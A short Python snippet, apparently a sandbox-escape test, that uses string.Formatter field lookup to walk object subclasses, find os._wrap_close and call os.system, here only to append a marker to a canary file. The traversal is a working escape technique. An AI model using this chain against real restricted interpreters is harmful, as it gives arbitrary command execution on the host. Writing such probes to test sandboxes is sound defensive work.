# Lets a formatter read attributes.
import string
classes, _ = string.Formatter().get_field('0.__class__.__base__.__subclasses__', [()], {})
for each in classes():
    if each.__name__ == '_wrap_close':
        each.__init__.__globals__['system']('echo reach-formatter >> @CANARY@')
